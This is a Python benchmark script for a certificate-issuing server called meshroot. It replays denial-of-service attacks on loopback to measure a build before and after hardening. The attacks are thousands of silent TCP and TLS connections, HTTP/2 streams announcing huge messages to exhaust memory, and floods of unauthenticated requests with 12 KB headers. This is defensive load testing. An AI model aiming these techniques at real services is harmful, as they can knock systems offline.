#!/usr/bin/env python3
"""Issue 14's attacks, replayed against a `meshroot serve` process on loopback, to measure a
build before and after the hardening (A/B: run it once per binary).

    benches/attacks.py --binary target/release/meshroot [--scenario d3|d4|d5|all]

Each scenario starts its own server in a fresh directory (`meshroot init --dev-issuer`, the
admin port on TLS off loopback, as in a cluster) and prints one JSON line of figures:

- d3: ~1,200 silent TCP sockets from one client (127.0.0.2) on each port, re-opened as they are
  closed,
  while a fresh client (`meshroot request`, a new process, P-256 key) gets certificates and the
  admin port's /healthz is probed with the kubelet's 1 s timeout.
- d4: one unauthenticated HTTP/2 connection opens 201 CreateCertificate streams, each announcing
  a 4,000,000-byte message and sending as much of it as the server lets it, never finishing;
  the server's RSS is sampled during the attack and after the connection closes.
- d8: ~2,100 connections from one client that finish TLS and never send the HTTP/2 preface,
  against a server limited to 2,048 file descriptors, while a fresh client is timed.
- d5: unauthenticated requests with a 12 KB `clusterid`, as fast as one connection can send
  them for a while; store growth (the store directory after a clean stop) per request, and log
  bytes per request.

Needs the Python package `h2` (pip install h2). Not part of the test suite: timing figures are
measured, never asserted.
"""

import argparse
import json
import os
import socket
import ssl
import subprocess
import sys
import tempfile
import threading
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions


def free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


class Server:
    def __init__(self, binary, fd_limit=None):
        self.binary = binary = os.path.abspath(binary)
        self.fd_limit = fd_limit
        self.dir = tempfile.mkdtemp(prefix="meshroot-attack-")
        subprocess.run([binary, "init", "--dir", self.dir, "--dev-issuer"], check=True,
                       stdout=subprocess.DEVNULL)
        config = os.path.join(self.dir, "meshroot.toml")
        self.template = open(config).read()
        self.config = config
        self.root = os.path.join(self.dir, "default", "root-cert.pem")
        self.log_path = os.path.join(self.dir, "serve.log")
        # A port free now may be taken before the server binds it (an attack's ephemeral
        # source ports): try again with new ones.
        for attempt in range(5):
            if self.start():
                break
        else:
            raise SystemExit("the server did not start:\n" + open(self.log_path).read())
        token = subprocess.run([binary, "token", "--config", config, "--namespace", "shop",
                                "--service-account", "fresh"], check=True,
                               capture_output=True, text=True).stdout.strip()
        self.token_file = os.path.join(self.dir, "token")
        open(self.token_file, "w").write(token)

    def start(self):
        self.port, self.admin_port = free_port(), free_port()
        text = self.template
        start = text.index("[admin]")
        end = text.index("\n", text.index("listen", start))
        text = (text[:start] + '[admin]\nlisten = "0.0.0.0:%d"\nallowed_identities = '
                '["spiffe://cluster.local/ns/ops/sa/auditor"]' % self.admin_port + text[end:])
        open(self.config, "w").write(text)
        self.log = open(self.log_path, "w")
        env = dict(os.environ, MESHROOT_LISTEN="127.0.0.1:%d" % self.port, MESHROOT_LOG="info")
        limit = None
        if self.fd_limit:
            import resource
            limit = lambda: resource.setrlimit(resource.RLIMIT_NOFILE,
                                               (self.fd_limit, self.fd_limit))
        self.process = subprocess.Popen([self.binary, "serve", "--config", self.config], env=env,
                                        stderr=self.log, cwd=self.dir, preexec_fn=limit)
        deadline = time.time() + 30
        while "serving the Istio CSR API on" not in open(self.log_path).read():
            if time.time() > deadline or self.process.poll() is not None:
                self.process.kill()
                self.process.wait()
                self.log.close()
                return False
            time.sleep(0.05)
        return True

    def rss_mib(self):
        for line in open("/proc/%d/status" % self.process.pid):
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
        return 0.0

    def request_seconds(self):
        """One fresh client: a new process, a new key, a new connection."""
        out = tempfile.mkdtemp(dir=self.dir)
        started = time.time()
        try:
            result = subprocess.run(
                [self.binary, "request", "--addr", "127.0.0.1:%d" % self.port, "--root",
                 self.root, "--spiffe-id", "spiffe://cluster.local/ns/shop/sa/fresh",
                 "--token-file", self.token_file, "--key-type", "ecdsa-p256", "--out", out],
                capture_output=True, timeout=60)
        except subprocess.TimeoutExpired:
            return time.time() - started, False
        return time.time() - started, result.returncode == 0

    def probe(self, timeout=1.0):
        """The kubelet's HTTPS probe of /healthz, with its 1 s timeout."""
        context = ssl.create_default_context(cafile=self.root)
        context.check_hostname = False
        started = time.time()
        try:
            with socket.create_connection(("127.0.0.1", self.admin_port), timeout=timeout) as raw:
                raw.settimeout(max(0.01, timeout - (time.time() - started)))
                with context.wrap_socket(raw, server_hostname="localhost") as tls:
                    tls.sendall(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
                    answer = tls.recv(64)
            return time.time() - started, answer.startswith(b"HTTP/1.1 200")
        except (OSError, ssl.SSLError):
            return time.time() - started, False

    def stop(self):
        self.process.terminate()
        try:
            code = self.process.wait(timeout=30)
        except subprocess.TimeoutExpired:
            self.process.kill()
            code = "killed"
        self.log.close()
        return code

    def store_bytes(self):
        total = 0
        for root, _, files in os.walk(os.path.join(self.dir, "store")):
            total += sum(os.path.getsize(os.path.join(root, f)) for f in files)
        return total


def silent_sockets(port, count, stop):
    """Keeps `count` silent connections open to `port`, re-opening each one that is closed."""
    sockets = []

    def fill():
        while len(sockets) < count and not stop.is_set():
            s = socket.socket()
            # The attacker is another client than the ones timed: its own address.
            s.bind(("127.0.0.2", 0))
            s.setblocking(False)
            try:
                s.connect(("127.0.0.1", port))
            except BlockingIOError:
                pass
            except OSError:
                s.close()
                time.sleep(0.01)
                continue
            sockets.append(s)

    while not stop.is_set():
        fill()
        for s in list(sockets):
            try:
                if s.recv(1) == b"":
                    raise ConnectionResetError
            except BlockingIOError:
                continue
            except OSError:
                sockets.remove(s)
                s.close()
        time.sleep(0.05)
    for s in sockets:
        s.close()


def tls_silent(port, count, stop):
    """Keeps `count` connections open to `port` that finish TLS (ALPN h2) and then send
    nothing, re-opening each one that is closed."""
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    connections = []
    while not stop.is_set():
        while len(connections) < count and not stop.is_set():
            try:
                raw = socket.socket()
                raw.bind(("127.0.0.2", 0))
                raw.settimeout(2)
                raw.connect(("127.0.0.1", port))
                tls = context.wrap_socket(raw, server_hostname="localhost")
                tls.setblocking(False)
                connections.append(tls)
            except (OSError, ssl.SSLError):
                time.sleep(0.01)
                break
        for tls in list(connections):
            try:
                if tls.recv(1) == b"":
                    raise ConnectionResetError
            except (ssl.SSLWantReadError, BlockingIOError):
                continue
            except (OSError, ssl.SSLError):
                connections.remove(tls)
                tls.close()
        time.sleep(0.05)
    for tls in connections:
        tls.close()


def d8(binary):
    """~2,100 connections that finish TLS and never send the HTTP/2 preface, against a server
    limited to 2,048 file descriptors; a fresh client is timed meanwhile."""
    server = Server(binary, fd_limit=2048)
    stop = threading.Event()
    thread = threading.Thread(target=tls_silent, args=(server.port, 2100, stop), daemon=True)
    thread.start()
    time.sleep(20)
    latencies, failures = [], 0
    for _ in range(10):
        seconds, ok = server.request_seconds()
        latencies.append(seconds)
        failures += not ok
    stop.set()
    thread.join()
    server.stop()
    return {
        "scenario": "d8",
        "fresh_client_ms_under_attack_median": round(1000 * percentile(latencies, 50), 1),
        "fresh_client_ms_under_attack_max": round(1000 * max(latencies), 1),
        "fresh_client_failures": failures,
    }


def percentile(values, p):
    values = sorted(values)
    return values[min(len(values) - 1, int(round(p / 100 * (len(values) - 1))))]


def d3(binary):
    server = Server(binary)
    baseline = [server.request_seconds()[0] for _ in range(5)]
    stop = threading.Event()
    threads = [threading.Thread(target=silent_sockets, args=(port, 1200, stop), daemon=True)
               for port in (server.port, server.admin_port)]
    for thread in threads:
        thread.start()
    time.sleep(5)
    latencies, failures, probes = [], 0, []
    for _ in range(10):
        seconds, ok = server.request_seconds()
        latencies.append(seconds)
        failures += not ok
        probes.append(server.probe())
    stop.set()
    for thread in threads:
        thread.join()
    server.stop()
    return {
        "scenario": "d3",
        "fresh_client_ms_baseline_median": round(1000 * percentile(baseline, 50), 1),
        "fresh_client_ms_under_attack_median": round(1000 * percentile(latencies, 50), 1),
        "fresh_client_ms_under_attack_max": round(1000 * max(latencies), 1),
        "fresh_client_failures": failures,
        "probe_ms_max": round(1000 * max(p[0] for p in probes), 1),
        "probes_failed": sum(not p[1] for p in probes),
        "probes": len(probes),
    }


def h2_connection(port):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    raw = socket.create_connection(("127.0.0.1", port))
    tls = context.wrap_socket(raw, server_hostname="localhost")
    connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    # Pure-Python Huffman coding of a 12 KB header is the client's bottleneck: send literals.
    encode = connection.encoder.encode
    connection.encoder.encode = lambda headers, huffman=True: encode(headers, huffman=False)
    connection.initiate_connection()
    tls.sendall(connection.data_to_send())
    return tls, connection


def grpc_headers(port, extra=()):
    return [(":method", "POST"), (":scheme", "https"), (":authority", "localhost:%d" % port),
            (":path", "/istio.v1.auth.IstioCertificateService/CreateCertificate"),
            ("content-type", "application/grpc"), ("te", "trailers")] + list(extra)


def pump(tls, connection, seconds):
    """Reads and answers frames for `seconds`; returns the events seen."""
    events = []
    tls.settimeout(0.05)
    deadline = time.time() + seconds
    while time.time() < deadline:
        try:
            data = tls.recv(65536)
        except socket.timeout:
            continue
        except OSError:
            break
        if not data:
            break
        try:
            events += connection.receive_data(data)
        except h2.exceptions.ProtocolError:
            break
        out = connection.data_to_send()
        if out:
            tls.sendall(out)
    return events


def d4(binary):
    server = Server(binary)
    rss_before = server.rss_mib()
    tls, connection = h2_connection(server.port)
    pump(tls, connection, 0.3)
    announced = (4_000_000).to_bytes(4, "big")
    chunk = b"A" * 16384
    sent, peak, streams = {}, rss_before, []
    started = time.time()
    for _ in range(201):
        try:
            stream = connection.get_next_available_stream_id()
            connection.send_headers(stream, grpc_headers(server.port))
            connection.send_data(stream, b"\x00" + announced)
            streams.append(stream)
            sent[stream] = 0
        except (h2.exceptions.ProtocolError, h2.exceptions.StreamClosedError):
            break
        tls.sendall(connection.data_to_send())
    # Send as much of each body as flow control allows, up to 3,990,000 bytes, for 8 s.
    while time.time() - started < 8:
        progressed = False
        for stream in streams:
            try:
                window = connection.local_flow_control_window(stream)
            except (h2.exceptions.StreamClosedError, KeyError):
                continue
            if window > 0 and sent[stream] < 3_990_000:
                size = min(window, len(chunk), 3_990_000 - sent[stream],
                           connection.max_outbound_frame_size)
                try:
                    connection.send_data(stream, chunk[:size])
                except (h2.exceptions.StreamClosedError, h2.exceptions.ProtocolError):
                    sent[stream] = 3_990_000 + 1  # refused by the server: stop sending on it
                    continue
                sent[stream] += size
                progressed = True
        out = connection.data_to_send()
        if out:
            try:
                tls.sendall(out)
            except OSError:
                break
        pump(tls, connection, 0.0 if progressed else 0.05)
        peak = max(peak, server.rss_mib())
    bytes_sent = sum(n for n in sent.values() if n <= 3_990_000)
    refused = sum(n > 3_990_000 for n in sent.values())
    tls.close()
    after = []
    for _ in range(20):
        time.sleep(1)
        after.append(server.rss_mib())
    server.stop()
    return {
        "scenario": "d4",
        "rss_mib_before": round(rss_before, 1),
        "rss_mib_peak": round(peak, 1),
        "rss_mib_20s_after_close": round(after[-1], 1),
        "streams_opened": len(streams),
        "streams_refused_by_server": refused,
        "body_bytes_accepted_by_flow_control": bytes_sent,
    }


def d5_flood(binary, seconds=20):
    # The store a server leaves with no traffic, to subtract.
    idle = Server(binary)
    idle.stop()
    baseline = idle.store_bytes()
    server = Server(binary)
    time.sleep(1)
    log_before = os.path.getsize(server.log_path)
    tls, connection = h2_connection(server.port)
    pump(tls, connection, 0.3)
    body = b"\x0a\x01x"  # IstioCertificateRequest { csr: "x" }
    message = b"\x00" + len(body).to_bytes(4, "big") + body
    cluster_id = "k" * 12_000
    answered, started = 0, time.time()
    while time.time() - started < seconds:
        # Up to 32 requests at a time on the connection.
        opened = []
        for _ in range(32):
            stream = connection.get_next_available_stream_id()
            connection.send_headers(stream, grpc_headers(server.port, [("clusterid", cluster_id)]))
            connection.send_data(stream, message, end_stream=True)
            opened.append(stream)
        tls.sendall(connection.data_to_send())
        done = set()
        deadline = time.time() + 10
        while len(done) < len(opened) and time.time() < deadline:
            for event in pump(tls, connection, 0.01):
                if isinstance(event, (h2.events.StreamEnded, h2.events.StreamReset)):
                    done.add(event.stream_id)
        answered += len(done)
    elapsed = time.time() - started
    tls.close()
    code = server.stop()
    log_bytes = os.path.getsize(server.log_path) - log_before
    records = subprocess.run([binary, "audit", "list", "--config", server.config, "--count",
                              "--reason", "missing-credentials"], capture_output=True, text=True)
    return {
        "scenario": "d5",
        "requests": answered,
        "requests_per_second": round(answered / elapsed),
        "store_bytes_growth": server.store_bytes() - baseline,
        "store_bytes_per_request": round((server.store_bytes() - baseline) / max(1, answered)),
        "log_bytes_per_request": round(log_bytes / max(1, answered)),
        "denial_records": records.stdout.strip() or records.stderr.strip()[:200],
        "exit_code": code,
    }


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--binary", required=True)
    parser.add_argument("--scenario", default="all", choices=["d3", "d4", "d5", "d8", "all"])
    args = parser.parse_args()
    scenarios = {"d3": d3, "d4": d4, "d5": d5_flood, "d8": d8}
    chosen = scenarios if args.scenario == "all" else {args.scenario: scenarios[args.scenario]}
    for scenario in chosen.values():
        print(json.dumps({"binary": args.binary, **scenario(args.binary)}), flush=True)


if __name__ == "__main__":
    sys.exit(main())
